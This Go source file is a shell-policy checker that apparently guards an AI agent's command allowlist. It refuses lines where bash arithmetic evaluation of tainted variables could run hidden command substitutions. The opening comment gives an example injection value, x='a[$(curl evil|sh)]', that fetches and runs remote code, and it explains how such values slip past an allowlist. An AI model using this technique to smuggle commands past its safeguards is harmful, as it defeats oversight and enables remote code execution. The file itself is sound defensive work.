package shellpolicy

import (
	"path"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Bash evaluates the value of a variable used in arithmetic as an
// arithmetic expression itself, and expands command substitutions in array
// subscripts while doing so: with x='a[$(curl evil|sh)]', `echo $((x))`
// runs curl although no command of the line names it. The same happens in
// [[ x -eq 1 ]], ${a[x]}, ${s:x}, let, ((...)), ${!x}, [[ -v $x ]] and
// unset "$x". dash, sh on Debian, does not do this, but sh is bash on other
// systems, so under an allowlist a line may not feed text it controls into
// those places: a variable is "tainted" when the line sets it to anything
// but a literal integer or an arithmetic result (assignments, for/select,
// read and other builtins that set variables, ${x:=...}), and tainted
// variables, command output and quoted expansions are refused there.

// alwaysTainted are variables that hold text from commands or arguments
// whatever the line does: the last argument of the previous command ($_),
// read/select/mapfile/getopts results, regex matches, positional
// parameters, and the arguments the model gives a skill's commands
// ($ARGUMENTS).
var alwaysTainted = []string{"_", "ARGUMENTS", "BASH_ARGV", "BASH_ARGV0", "BASH_COMMAND", "BASH_REMATCH", "BASH_SOURCE",
	"FUNCNAME", "MAPFILE", "OPTARG", "READLINE_LINE", "REPLY", "@", "*"}

// scan records, before the checks, what the whole line does that affects
// them regardless of order: which variables it taints and whether it
// changes directory.
func (c *allowCheck) scan(f *syntax.File) {
	if c.tainted == nil {
		c.tainted = map[string]bool{}
	}
	for _, n := range alwaysTainted {
		c.tainted[n] = true
	}
	syntax.Walk(f, func(node syntax.Node) bool {
		switch n := node.(type) {
		case *syntax.Assign:
			c.scanAssign(n)
		case *syntax.WordIter:
			for _, w := range n.Items {
				if s, ok := literalWord(w); !ok || !isIntegerLiteral(s) {
					c.tainted[n.Name.Value] = true
				}
			}
		case *syntax.ParamExp:
			if n.Param != nil && n.Exp != nil && (n.Exp.Op == syntax.AssignUnset || n.Exp.Op == syntax.AssignUnsetOrNull) &&
				!isNumericWord(n.Exp.Word) {
				c.tainted[n.Param.Value] = true
			}
		case *syntax.CallExpr:
			c.scanCall(n)
		}
		return true
	})
}

func (c *allowCheck) scanAssign(a *syntax.Assign) {
	if a.Name == nil {
		// A declaration word that is not an assignment to the parser, such
		// as export "x=$y": bash assigns it all the same.
		if s, ok := literalWord(a.Value); ok && strings.Contains(s, "=") {
			name, _, _ := strings.Cut(s, "=")
			c.tainted[name] = true
		}
		return
	}
	if a.Array != nil || !isNumericWord(a.Value) {
		c.tainted[a.Name.Value] = true
	}
}

// scanCall taints every literal argument of a variable-setting builtin that
// could be a variable name (over-tainting costs only a refusal), and notes
// directory changes.
func (c *allowCheck) scanCall(n *syntax.CallExpr) {
	if len(n.Args) == 0 {
		return
	}
	name, ok := literalWord(n.Args[0])
	if !ok {
		return
	}
	base := path.Base(name)
	args := n.Args[1:]
	if base == "command" || base == "builtin" { // command cd, builtin cd
		for i, w := range args {
			if s, ok := literalWord(w); ok && !strings.HasPrefix(s, "-") {
				base, args = s, args[i+1:]
				break
			}
		}
	}
	switch base {
	case "eval", "trap":
		c.scanNested(base, args)
	case "cd", "pushd", "popd":
		c.changesDir = true
		for _, v := range []string{"PWD", "OLDPWD", "DIRSTACK"} { // a directory's name is text too
			c.tainted[v] = true
		}
	}
	if _, ok := varBuiltins[base]; !ok {
		return
	}
	for _, w := range n.Args[1:] {
		if s, ok := literalWord(w); ok {
			v, _, _ := strings.Cut(strings.TrimPrefix(strings.TrimPrefix(s, "-v"), "-a"), "[")
			c.tainted[v] = true
		}
	}
}

// isNumericWord reports whether a word's value is a number whatever the
// environment: empty, a literal integer, or one arithmetic expansion.
func isNumericWord(w *syntax.Word) bool {
	if w == nil {
		return true
	}
	if len(w.Parts) == 1 {
		if _, ok := w.Parts[0].(*syntax.ArithmExp); ok {
			return true
		}
	}
	s, ok := literalWord(w)
	return ok && (s == "" || isIntegerLiteral(s))
}

func isIntegerLiteral(s string) bool {
	s = strings.TrimLeft(s, "+-")
	if s == "" {
		return false
	}
	for _, r := range s {
		if r < '0' || r > '9' {
			return false
		}
	}
	return true
}

// visitArith checks the nodes that hold arithmetic or evaluate a name.
func (c *allowCheck) visitArith(node syntax.Node) {
	switch n := node.(type) {
	case *syntax.ArithmExp:
		c.arith(n.X)
	case *syntax.ArithmCmd:
		c.arith(n.X)
	case *syntax.CStyleLoop:
		c.arith(n.Init)
		c.arith(n.Cond)
		c.arith(n.Post)
	case *syntax.ArrayElem:
		c.arith(n.Index)
	case *syntax.ParamExp:
		c.checkParamExp(n)
	case *syntax.BinaryTest:
		switch n.Op {
		case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
			c.arithTestOperand(n.X)
			c.arithTestOperand(n.Y)
		}
	case *syntax.UnaryTest:
		if w, ok := n.X.(*syntax.Word); ok && (n.Op == syntax.TsVarSet || n.Op == syntax.TsRefVar) {
			c.checkVarArg("[[ "+n.Op.String(), w)
		}
	}
}

func (c *allowCheck) arithTestOperand(x syntax.TestExpr) {
	if w, ok := x.(*syntax.Word); ok {
		c.arith(w)
	}
}

// checkParamExp checks ${a[i]} and ${s:o:l} (arithmetic), ${x:=v} (sets x),
// ${!x} (evaluates x's value as a name) and ${x@P} (expands x's value as a
// prompt, running its command substitutions).
func (c *allowCheck) checkParamExp(p *syntax.ParamExp) {
	if p.Param == nil {
		return
	}
	name := p.Param.Value
	if p.Exp != nil {
		switch p.Exp.Op {
		case syntax.AssignUnset, syntax.AssignUnsetOrNull:
			c.checkVar(name)
		case syntax.OtherParamOps:
			if s, ok := literalWord(p.Exp.Word); !ok || s == "P" {
				c.refuse("${%s@P} expands the value as a prompt, which runs command substitutions, so it cannot be checked against [autonomy].allowed_commands.", name)
			}
		}
	}
	if p.Excl && p.Names == 0 && !isAllIndex(p.Index) && c.tainted[name] {
		c.refuse("${!%s} uses the value of %s as a variable name, and this command line sets %s from text, which bash would evaluate as code; that cannot be checked against [autonomy].allowed_commands.", name, name, name)
	}
	if !isAllIndex(p.Index) {
		c.arith(p.Index)
	}
	if p.Slice != nil {
		c.arith(p.Slice.Offset)
		c.arith(p.Slice.Length)
	}
}

// isAllIndex reports a [@] or [*] subscript, which is not arithmetic.
func isAllIndex(x syntax.ArithmExpr) bool {
	w, ok := x.(*syntax.Word)
	if !ok {
		return false
	}
	s, ok := literalWord(w)
	return ok && (s == "@" || s == "*")
}

// arith checks an arithmetic expression: no risky variable assigned, no
// tainted variable or command output evaluated.
func (c *allowCheck) arith(x syntax.ArithmExpr) {
	if x == nil || c.refusal != "" {
		return
	}
	switch x := x.(type) {
	case *syntax.BinaryArithm:
		if isArithAssign(x.Op) {
			c.arithAssigned(x.X)
		}
		c.arith(x.X)
		c.arith(x.Y)
	case *syntax.UnaryArithm:
		if x.Op == syntax.Inc || x.Op == syntax.Dec {
			c.arithAssigned(x.X)
		}
		c.arith(x.X)
	case *syntax.ParenArithm:
		c.arith(x.X)
	case *syntax.Word:
		for _, p := range x.Parts {
			c.arithPart(p)
		}
	}
}

func isArithAssign(op syntax.BinAritOperator) bool {
	switch op {
	case syntax.Assgn, syntax.AddAssgn, syntax.SubAssgn, syntax.MulAssgn, syntax.QuoAssgn, syntax.RemAssgn,
		syntax.AndAssgn, syntax.OrAssgn, syntax.XorAssgn, syntax.ShlAssgn, syntax.ShrAssgn,
		syntax.AndBoolAssgn, syntax.OrBoolAssgn, syntax.XorBoolAssgn, syntax.PowAssgn:
		return true
	}
	return false
}

// arithAssigned checks the target of an arithmetic assignment.
func (c *allowCheck) arithAssigned(x syntax.ArithmExpr) {
	if w, ok := x.(*syntax.Word); ok && len(w.Parts) == 1 {
		switch p := w.Parts[0].(type) {
		case *syntax.Lit:
			c.checkVar(p.Value)
		case *syntax.ParamExp:
			if p.Param != nil {
				c.checkVar(p.Param.Value)
			}
		}
	}
}

func (c *allowCheck) arithPart(p syntax.WordPart) {
	switch p := p.(type) {
	case *syntax.Lit:
		c.arithText("arithmetic", p.Value)
	case *syntax.SglQuoted:
		c.arithText("arithmetic", p.Value)
	case *syntax.DblQuoted:
		for _, q := range p.Parts {
			c.arithPart(q)
		}
	case *syntax.ParamExp:
		switch {
		case p.Length:
			// ${#x} is a number
		case p.Param == nil:
			c.refuse("a nested expansion inside an arithmetic expression cannot be checked against [autonomy].allowed_commands.")
		case p.Repl != nil || p.Exp != nil && !isNumericWord(p.Exp.Word):
			// ${x:-text}, ${x#*/}, ${x/a/text}: text, or a part of the value,
			// would be evaluated
			c.refuse("bash evaluates the result of %s inside an arithmetic expression as code, so it cannot be checked against [autonomy].allowed_commands.", printParam(p))
		default:
			c.arithVar(p.Param.Value)
		}
	case *syntax.ArithmExp:
		// a number; its own expression is checked when the walk reaches it
	case *syntax.CmdSubst, *syntax.ProcSubst:
		c.refuse("bash evaluates a command's output inside an arithmetic expression as code, so it cannot be checked against [autonomy].allowed_commands.")
	default:
		c.refuse("this kind of word inside an arithmetic expression cannot be checked against [autonomy].allowed_commands.")
	}
}

// arithText checks raw text that bash evaluates as arithmetic: no
// expansions, no risky or tainted variable names.
func (c *allowCheck) arithText(where, s string) {
	if strings.ContainsAny(s, "$`") {
		c.refuse("bash expands and evaluates the text %q in %s as code, so it cannot be checked against [autonomy].allowed_commands.", s, where)
		return
	}
	for i := 0; i < len(s) && c.refusal == ""; {
		switch ch := s[i]; {
		case ch >= '0' && ch <= '9': // a number, with base or hex digits
			for i < len(s) && (isNameByte(s[i]) || s[i] == '#' || s[i] == '@') {
				i++
			}
		case isNameByte(ch):
			j := i
			for j < len(s) && isNameByte(s[j]) {
				j++
			}
			c.checkVar(s[i:j])
			c.arithVar(s[i:j])
			i = j
		default:
			i++
		}
	}
}

func isNameByte(b byte) bool {
	return b == '_' || b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9'
}

// arithVar refuses a tainted variable (or a positional parameter) whose
// value bash would evaluate.
func (c *allowCheck) arithVar(name string) {
	if c.tainted[name] || isIntegerLiteral(name) {
		if !isNameByte(name[0]) || isIntegerLiteral(name) {
			name = "$" + name // $1, $@
		}
		c.refuse("the arithmetic expression uses %s, which this command line sets from text (or which holds an argument); bash evaluates such text as code, so it cannot be checked against [autonomy].allowed_commands. Use literal numbers, or variables set to literal numbers.", name)
	}
}

// printParam renders a parameter expansion as shell source, for messages.
func printParam(p *syntax.ParamExp) string {
	return printWord(&syntax.Word{Parts: []syntax.WordPart{p}})
}
